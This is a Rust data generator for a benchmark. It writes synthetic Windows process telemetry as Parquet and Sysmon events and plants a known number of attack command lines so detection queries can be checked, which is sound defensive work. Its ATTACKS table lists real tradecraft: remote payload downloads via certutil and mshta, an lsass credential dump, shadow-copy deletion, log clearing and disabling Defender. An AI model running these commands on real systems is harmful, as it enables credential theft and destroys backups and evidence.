//! Writes test data for the benchmarks: rows of `Endpoint.Processes` as Parquet and the same
//! processes as raw Sysmon events (NDJSON), the same bytes for the same seed on any machine.
//!
//! ```text
//! cargo run --release --example generate -- --rows 10000000 --out DIR [--seed 1] [--events 1000000]
//! ```
//!
//! Names of processes and their parents are skewed as they are on real machines, about a third of
//! the command lines are unique, there are 5,000 hosts, 3,000 users and 30 days. Among them are
//! attacks, a known number of each technique: `DIR/manifest.json` says how many, so that what a
//! search finds can be checked.

use std::collections::HashMap;
use std::error::Error;
use std::fmt::Write as _;
use std::fs::File;
use std::io::{BufWriter, Write as _};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};

use polars::prelude::{
    Column, DataFrame, DataType, IntoColumn as _, NamedFrom as _, ParquetCompression,
    ParquetWriter, Series, StatisticsOptions, TimeUnit,
};
use serde_json::json;

/// Rows of one file.
const FILE_ROWS: usize = 500_000;
/// Rows of one row group.
const GROUP_ROWS: usize = 131_072;
const HOSTS: u64 = 5_000;
const USERS: u64 = 3_000;
/// The first second, 2024-05-01T00:00:00Z, and how many there are.
const START: u64 = 1_714_521_600;
const SECONDS: u64 = 30 * 86_400;

/// A process that is no attack: how often of 1,000, its path without the name, its name, its
/// arguments (`#` stands for a number of few, `@` for a unique one), and the usual parents.
type Usual = (
    u64,
    &'static str,
    &'static str,
    &'static str,
    &'static [&'static str],
);

const SYSTEM: &str = r"C:\Windows\System32";

const USUAL: &[Usual] = &[
    (
        230,
        SYSTEM,
        "svchost.exe",
        "-k netsvcs -p -s Service#",
        &["services.exe"],
    ),
    (
        110,
        SYSTEM,
        "conhost.exe",
        "0xffffffff -ForceV1 @",
        &["cmd.exe", "powershell.exe", "git.exe"],
    ),
    (
        95,
        r"C:\Program Files\Google\Chrome\Application",
        "chrome.exe",
        "--type=renderer --renderer-client-id=# --mojo-platform-channel-handle=@",
        &["chrome.exe", "explorer.exe"],
    ),
    (
        80,
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "msedge.exe",
        "--type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle=@",
        &["msedge.exe", "explorer.exe"],
    ),
    (
        60,
        SYSTEM,
        "backgroundTaskHost.exe",
        "-ServerName:App#.AppX",
        &["svchost.exe"],
    ),
    (
        55,
        SYSTEM,
        "RuntimeBroker.exe",
        "-Embedding",
        &["svchost.exe"],
    ),
    (
        50,
        SYSTEM,
        "cmd.exe",
        r"/c C:\Tools\batch\job#.cmd /log C:\ProgramData\logs\#.log",
        &["explorer.exe", "svchost.exe", "taskeng.exe"],
    ),
    (45, SYSTEM, "taskhostw.exe", "Task#", &["svchost.exe"]),
    (
        40,
        SYSTEM,
        "dllhost.exe",
        "/Processid:{AB8902B4-09CA-4BB6-B78D-0000000#}",
        &["svchost.exe"],
    ),
    (
        35,
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "powershell.exe",
        r"-NoProfile -ExecutionPolicy RemoteSigned -File C:\Scripts\inventory#.ps1 -Run @",
        &["cmd.exe", "explorer.exe", "svchost.exe"],
    ),
    (
        30,
        SYSTEM,
        "SearchProtocolHost.exe",
        "Global\\UsGthrFltPipeMssGthrPipe@_ Global\\UsGthrCtrlFltPipeMssGthrPipe 1 -2147483646",
        &["SearchIndexer.exe"],
    ),
    (
        25,
        SYSTEM,
        "wbem\\WmiPrvSE.exe",
        "-secured -Embedding",
        &["svchost.exe"],
    ),
    (
        22,
        r"C:\Program Files\Microsoft Office\root\Office16",
        "OUTLOOK.EXE",
        "/recycle",
        &["explorer.exe"],
    ),
    (
        20,
        r"C:\Program Files\Microsoft Office\root\Office16",
        "WINWORD.EXE",
        r"/n C:\Users\user#\Documents\report@.docx /o",
        &["explorer.exe", "OUTLOOK.EXE"],
    ),
    (
        18,
        r"C:\Program Files\Microsoft Office\root\Office16",
        "EXCEL.EXE",
        r"C:\Users\user#\Documents\numbers@.xlsx",
        &["explorer.exe", "OUTLOOK.EXE"],
    ),
    (
        15,
        SYSTEM,
        "rundll32.exe",
        r"C:\Windows\System32\shell32.dll,Control_RunDLL item#.cpl",
        &["explorer.exe", "svchost.exe"],
    ),
    (
        12,
        SYSTEM,
        "msiexec.exe",
        r"/i C:\Windows\Installer\package#.msi /qn TRANSFORMS=@",
        &["services.exe", "CcmExec.exe"],
    ),
    (
        10,
        SYSTEM,
        "schtasks.exe",
        r"/query /tn \Company\Task#",
        &["cmd.exe", "powershell.exe"],
    ),
    (
        8,
        SYSTEM,
        "net.exe",
        r"use Z: \\fileserver#\share",
        &["cmd.exe", "userinit.exe"],
    ),
    (
        8,
        SYSTEM,
        "reg.exe",
        r"query HKLM\Software\Company\App# /v Version",
        &["cmd.exe"],
    ),
    (7, SYSTEM, "ipconfig.exe", "/all", &["cmd.exe"]),
    (
        6,
        SYSTEM,
        "whoami.exe",
        "/upn",
        &["cmd.exe", "powershell.exe"],
    ),
    (
        5,
        SYSTEM,
        "wbem\\wmic.exe",
        "os get caption,version /format:list",
        &["cmd.exe"],
    ),
    (5, SYSTEM, "certutil.exe", "-store my cert#", &["cmd.exe"]),
    (4, SYSTEM, "vssadmin.exe", "list shadows", &["cmd.exe"]),
    (
        5,
        r"C:\Program Files\Git\cmd",
        "git.exe",
        "fetch --quiet origin refs/heads/topic-@",
        &["Code.exe", "cmd.exe"],
    ),
];

/// An attack: its technique, how many are planted, the process, its command line, the parent.
type Attack = (
    &'static str,
    usize,
    &'static str,
    &'static str,
    &'static str,
);

const ATTACKS: &[Attack] = &[
    (
        "T1047",
        57,
        "wmic.exe",
        "wmic.exe /node:HOST process call create \"cmd.exe /c whoami > C:\\out@.txt\"",
        "cmd.exe",
    ),
    (
        "T1003.001",
        31,
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 6@ C:\\Windows\\Temp\\lsass.dmp full",
        "powershell.exe",
    ),
    (
        "T1105",
        43,
        "certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.7/p@.exe C:\\Users\\Public\\p.exe",
        "cmd.exe",
    ),
    (
        "T1490",
        19,
        "vssadmin.exe",
        "vssadmin.exe Delete Shadows /All /Quiet",
        "cmd.exe",
    ),
    (
        "T1059.001",
        71,
        "powershell.exe",
        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA@",
        "WINWORD.EXE",
    ),
    (
        "T1053.005",
        37,
        "schtasks.exe",
        "schtasks.exe /Create /S HOST /SC ONCE /ST 23:59 /TN upd@ /TR C:\\Users\\Public\\p.exe",
        "cmd.exe",
    ),
    (
        "T1218.005",
        23,
        "mshta.exe",
        "mshta.exe javascript:a=GetObject(\"script:http://203.0.113.7/@.sct\").Exec();close();",
        "explorer.exe",
    ),
    (
        "T1087.002",
        47,
        "net.exe",
        "net.exe group \"Domain Admins\" /domain",
        "cmd.exe",
    ),
    (
        "T1070.001",
        13,
        "wevtutil.exe",
        "wevtutil.exe cl Security",
        "cmd.exe",
    ),
    (
        "T1562.001",
        29,
        "powershell.exe",
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
        "cmd.exe",
    ),
];

/// SplitMix64: small, well mixed, and the same everywhere.
struct Random(u64);

impl Random {
    fn of(seed: u64, stream: u64) -> Random {
        let mut random = Random(seed ^ stream.wrapping_mul(0xd134_2543_de82_ef95));
        random.next();
        random
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    /// Below `bound`, small numbers far more often than large ones.
    fn skewed(&mut self, bound: u64) -> u64 {
        let unit = self.next() as f64 / u64::MAX as f64;
        ((unit * unit * unit) * bound as f64) as u64 % bound
    }
}

/// What the command line asks for.
struct Options {
    rows: usize,
    events: usize,
    seed: u64,
    out: PathBuf,
}

/// One process.
#[derive(Default)]
struct Row {
    time: i64,
    host: u64,
    user: u64,
    path: String,
    name: String,
    process: String,
    id: u64,
    parent: &'static str,
    parent_id: u64,
}

/// The columns of a file.
#[derive(Default)]
struct Columns {
    time: Vec<i64>,
    dest: Vec<String>,
    user: Vec<String>,
    process_name: Vec<String>,
    process: Vec<String>,
    process_path: Vec<String>,
    process_id: Vec<i64>,
    parent_process_name: Vec<&'static str>,
    parent_process: Vec<String>,
    parent_process_id: Vec<i64>,
    original_file_name: Vec<String>,
    process_integrity_level: Vec<&'static str>,
}

fn main() -> Result<(), Box<dyn Error>> {
    let options = options()?;
    let model = options.out.join("Endpoint.Processes");
    let events = options.out.join("events");
    for folder in [&model, &events] {
        std::fs::create_dir_all(folder)?;
        for entry in std::fs::read_dir(folder)? {
            std::fs::remove_file(entry?.path())?;
        }
    }
    let planted = planted(options.rows, options.seed);
    let files = options.rows.div_ceil(FILE_ROWS);
    let next = AtomicUsize::new(0);
    let work = || -> Result<(), String> {
        loop {
            let file = next.fetch_add(1, Ordering::Relaxed);
            if file >= files {
                return Ok(());
            }
            write_file(file, &options, &planted, &model, &events).map_err(|e| e.to_string())?;
        }
    };
    let threads = std::thread::available_parallelism()?.get();
    std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads).map(|_| scope.spawn(work)).collect();
        workers
            .into_iter()
            .try_for_each(|w| w.join().unwrap_or_else(|_| Err("a writer died".to_owned())))
    })?;
    let counted = |rows: usize| -> serde_json::Map<String, serde_json::Value> {
        let count = |attack: usize| {
            planted
                .iter()
                .filter(|(at, a)| **at < rows && **a == attack)
                .count()
        };
        let names = ATTACKS.iter().enumerate();
        names
            .map(|(at, a)| (a.0.to_owned(), json!(count(at))))
            .collect()
    };
    let manifest = json!({
        "seed": options.seed, "rows": options.rows, "events": options.events,
        "hosts": HOSTS, "users": USERS, "start": START, "seconds": SECONDS,
        "planted_in_rows": counted(options.rows),
        "planted_in_events": counted(options.events),
    });
    let text = serde_json::to_string_pretty(&manifest)?;
    std::fs::write(options.out.join("manifest.json"), format!("{text}\n"))?;
    println!("{text}");
    Ok(())
}

fn options() -> Result<Options, Box<dyn Error>> {
    let mut args = std::env::args().skip(1);
    let (mut rows, mut events, mut seed, mut out) = (10_000_000, None, 1, None);
    while let Some(name) = args.next() {
        let value = args.next().ok_or_else(|| format!("{name} needs a value"))?;
        match name.as_str() {
            "--rows" => rows = value.parse()?,
            "--events" => events = Some(value.parse()?),
            "--seed" => seed = value.parse()?,
            "--out" => out = Some(PathBuf::from(value)),
            other => return Err(format!("unknown option {other}").into()),
        }
    }
    Ok(Options {
        rows,
        events: events.unwrap_or(1_000_000).min(rows),
        seed,
        out: out.ok_or("--out DIR is missing")?,
    })
}

/// Which rows are attacks: small data gets the same share, and at least one of each.
fn planted(rows: usize, seed: u64) -> HashMap<usize, usize> {
    let mut random = Random::of(seed, u64::MAX);
    let mut planted = HashMap::new();
    for (at, attack) in ATTACKS.iter().enumerate() {
        let mut left = if rows >= 1_000_000 { attack.1 } else { 1 };
        while left > 0 && planted.len() < rows {
            let row = random.below(rows as u64) as usize;
            if let std::collections::hash_map::Entry::Vacant(free) = planted.entry(row) {
                free.insert(at);
                left -= 1;
            }
        }
    }
    planted
}

fn write_file(
    file: usize,
    options: &Options,
    planted: &HashMap<usize, usize>,
    model: &Path,
    events: &Path,
) -> Result<(), Box<dyn Error>> {
    let first = file * FILE_ROWS;
    let last = (first + FILE_ROWS).min(options.rows);
    let mut random = Random::of(options.seed, file as u64);
    let mut columns = Columns::default();
    let mut raw = match first < options.events {
        true => {
            let path = events.join(format!("part-{file:04}.ndjson"));
            Some(BufWriter::new(File::create(path)?))
        }
        false => None,
    };
    let mut row = Row::default();
    for at in first..last {
        fill(&mut row, at, options.rows, planted.get(&at), &mut random);
        if let Some(out) = raw.as_mut().filter(|_| at < options.events) {
            writeln!(out, "{}", event(&row))?;
        }
        columns.push(&row);
    }
    if let Some(mut out) = raw {
        out.flush()?;
    }
    let mut frame = columns.frame()?;
    let path = model.join(format!("part-{file:04}.parquet"));
    ParquetWriter::new(File::create(path)?)
        .with_compression(ParquetCompression::Zstd(None))
        .with_statistics(StatisticsOptions::default())
        .with_row_group_size(Some(GROUP_ROWS))
        .finish(&mut frame)?;
    Ok(())
}

fn fill(row: &mut Row, at: usize, rows: usize, attack: Option<&usize>, random: &mut Random) {
    let spread = SECONDS * 1_000_000 / rows.max(1) as u64;
    row.time = (START * 1_000_000 + at as u64 * spread + random.below(spread.max(1))) as i64;
    row.host = random.skewed(HOSTS);
    row.user = random.skewed(USERS);
    row.id = 4 * (1 + random.below(8_000));
    row.parent_id = 4 * (1 + random.below(2_000));
    row.path.clear();
    row.name.clear();
    row.process.clear();
    if let Some((_, _, name, line, parent)) = attack.map(|a| ATTACKS[*a]) {
        row.path.push_str(SYSTEM);
        row.name.push_str(name);
        let line = line.replace("HOST", &format!("host{:04}", random.below(HOSTS)));
        expand(&line, &mut row.process, random);
        row.parent = parent;
        return;
    }
    let mut pick = random.below(USUAL.iter().map(|u| u.0).sum());
    let usual = USUAL
        .iter()
        .find(|u| {
            let found = pick < u.0;
            pick = pick.saturating_sub(u.0);
            found
        })
        .unwrap_or(&USUAL[0]);
    let (_, path, name, arguments, parents) = *usual;
    row.path.push_str(path);
    match name.rsplit_once('\\') {
        Some((folder, name)) => {
            let _ = write!(row.path, "\\{folder}");
            row.name.push_str(name);
        }
        None => row.name.push_str(name),
    }
    let _ = write!(row.process, "\"{}\\{}\" ", row.path, row.name);
    expand(arguments, &mut row.process, random);
    row.parent = parents[random.skewed(parents.len() as u64) as usize];
}

/// `#` becomes a number of few, `@` one that hardly comes twice.
fn expand(template: &str, out: &mut String, random: &mut Random) {
    for c in template.chars() {
        let _ = match c {
            '#' => write!(out, "{}", random.skewed(400)),
            '@' => write!(out, "{:014x}", random.next() >> 8),
            other => write!(out, "{other}"),
        };
    }
}

impl Row {
    fn image(&self) -> String {
        format!("{}\\{}", self.path, self.name)
    }

    fn level(&self) -> &'static str {
        ["Medium", "System", "High", "Low"][(self.user % 7 / 2) as usize]
    }
}

impl Columns {
    fn push(&mut self, row: &Row) {
        self.time.push(row.time);
        self.dest.push(format!("host{:04}", row.host));
        self.user.push(format!("CORP\\user{:04}", row.user));
        self.process_name.push(row.name.clone());
        self.process.push(row.process.clone());
        self.process_path.push(row.image());
        self.process_id.push(row.id as i64);
        self.parent_process_name.push(row.parent);
        self.parent_process
            .push(format!("{SYSTEM}\\{}", row.parent));
        self.parent_process_id.push(row.parent_id as i64);
        self.original_file_name.push(row.name.clone());
        self.process_integrity_level.push(row.level());
    }

    fn frame(self) -> Result<DataFrame, Box<dyn Error>> {
        let rows = self.time.len();
        let time = Series::new("_time".into(), self.time)
            .cast(&DataType::Datetime(TimeUnit::Microseconds, None))?;
        let texts =
            |name: &str, values: Vec<String>| Column::from(Series::new(name.into(), values));
        let names = |name: &str, values: Vec<&str>| Column::from(Series::new(name.into(), values));
        let numbers = |name: &str, values: Vec<i64>| Column::from(Series::new(name.into(), values));
        let columns = vec![
            time.into_column(),
            texts("dest", self.dest),
            texts("user", self.user),
            texts("process_name", self.process_name),
            texts("process", self.process),
            texts("process_path", self.process_path),
            numbers("process_id", self.process_id),
            names("parent_process_name", self.parent_process_name),
            texts("parent_process", self.parent_process),
            numbers("parent_process_id", self.parent_process_id),
            texts("original_file_name", self.original_file_name),
            names("process_integrity_level", self.process_integrity_level),
        ];
        Ok(DataFrame::new(rows, columns)?)
    }
}

/// The process as Sysmon's event 1, flat, as log shippers write it.
fn event(row: &Row) -> serde_json::Value {
    let seconds = row.time.div_euclid(1_000_000);
    let time =
        chrono::DateTime::from_timestamp(seconds, (row.time.rem_euclid(1_000_000) * 1_000) as u32)
            .unwrap_or_default()
            .format("%Y-%m-%d %H:%M:%S%.3f")
            .to_string();
    json!({
        "EventTime": time, "Hostname": format!("host{:04}", row.host),
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "SourceName": "Microsoft-Windows-Sysmon", "EventID": 1, "UtcTime": time,
        "ProcessId": row.id, "Image": row.image(), "CommandLine": row.process,
        "OriginalFileName": row.name, "User": format!("CORP\\user{:04}", row.user),
        "IntegrityLevel": row.level(), "ParentProcessId": row.parent_id,
        "ParentImage": format!("{SYSTEM}\\{}", row.parent),
        "ParentCommandLine": format!("{SYSTEM}\\{}", row.parent),
    })
}
